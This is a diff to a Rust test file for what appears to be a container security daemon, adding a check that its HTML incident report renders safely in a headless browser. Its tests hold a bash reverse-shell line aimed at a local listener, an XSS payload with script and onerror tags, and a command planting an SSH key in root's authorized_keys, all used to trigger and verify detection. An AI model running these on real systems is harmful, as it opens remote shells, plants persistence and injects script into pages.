@@ -1,10 +1,10 @@
 //! What is made of findings: the case as one incident with its report, and exceptions by their effect.
 
-use crate::container::{Container, Group, wait};
+use crate::container::{Container, Group, end_with_us, wait};
 use crate::daemon::{ALERT_WAIT, Daemon, Pins, Settings, is_alert, outcome, program};
 use crate::faults::attack_works;
 use crate::lab::Peer;
-use crate::pace;
+use crate::{pace, shared};
 use anyhow::{Context, Result, ensure};
 use serde_json::Value;
 use std::fs;
@@ -12,6 +12,9 @@ use std::net::TcpListener;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
+
+/// A browser that needs no display.
+pub const BROWSER: &str = "chromium";
 
 /// Runs the program on the alert file; its exit status and what it says.
 fn ask(arguments: &[&str], log: &Path) -> Result<String> {
@@ -118,7 +121,7 @@ pub fn exception_spares_what_it_names() -> Result<()> {
     ensure!(attack_works(&admin)?, "the excepted program was stopped");
     reload(&daemon, &rule("exe = \"*/zsh\""), 3)?;
     let peer = Peer::shell(admin.listen()?, "", pace::wait(Duration::from_secs(6)))?;
-    let shell = admin.spawn(&format!("exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port))?;
+    let shell = admin.spawn(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
     let killed = daemon.await_row("kill by the daemon", ALERT_WAIT, |row| {
         is_alert(row, "reverse_shell", admin.id()) && row["bulkhead"]["enforced_by"] == "pidfd"
     });
@@ -169,5 +172,40 @@ pub fn explained_exception_silences() -> Result<()> {
         daemon.await_row("the excepted row", ALERT_WAIT, |row| row["bulkhead"]["exception"]["reason"].is_string())?;
     ensure!(row["event"]["kind"] == "event" && row["event"]["action"] == "persistence_cron", "{row}");
     ensure!(daemon.alerts("persistence_cron", stage.id()).len() == 1, "it was told");
+    Ok(())
+}
+
+/// A report in a browser: all of it is drawn, and nothing of the attacker's becomes part of the page.
+pub fn report_is_drawn_by_a_browser() -> Result<()> {
+    let watch = shared::watch("monitor")?;
+    let container = Container::start(&watch.group)?;
+    let evil = "</title></svg><script>document.title=1</script><img src=x onerror=document.title=2>";
+    container.run(&format!(": '{evil}'; mkdir -p /root/.ssh; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"))?;
+    let alert = watch.daemon.await_alert("persistence_ssh_key", container.id())?;
+    let folder = tempfile::tempdir()?;
+    let page = folder.path().join("report.html");
+    let log = watch.daemon.file("out/alerts.jsonl");
+    ask(&["report", id(&alert)?, "--output", &page.display().to_string()], &log)?;
+
+    let browse = |what: &str| -> Result<String> {
+        let said = folder.path().join("said");
+        let profile = format!("--user-data-dir={}", folder.path().join("profile").display());
+        let mut browser = Command::new(BROWSER);
+        browser.args(["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1200,1400", &profile, what]);
+        browser.arg(format!("file://{}", page.display()));
+        browser.stdin(Stdio::null()).stdout(fs::File::create(&said)?).stderr(Stdio::null());
+        wait(end_with_us(&mut browser).spawn().context(BROWSER)?, pace::wait(Duration::from_secs(60)))?;
+        Ok(fs::read_to_string(&said)?)
+    };
+    let page = browse("--dump-dom")?;
+    ensure!(page.contains("<title>Incident ") && page.matches("<svg").count() == 2, "{page}");
+    ensure!(page.contains("onerror=document.title=2"), "the arguments are missing: {page}");
+    for element in ["<script", "<img"] {
+        ensure!(!page.contains(element), "the attacker's {element} is in the page: {page}");
+    }
+    let picture = folder.path().join("report.png");
+    browse(&format!("--screenshot={}", picture.display()))?;
+    let bytes = fs::read(&picture).context("no picture")?;
+    ensure!(bytes.starts_with(b"\x89PNG") && bytes.len() > 20_000, "a picture of {} bytes", bytes.len());
     Ok(())
 }
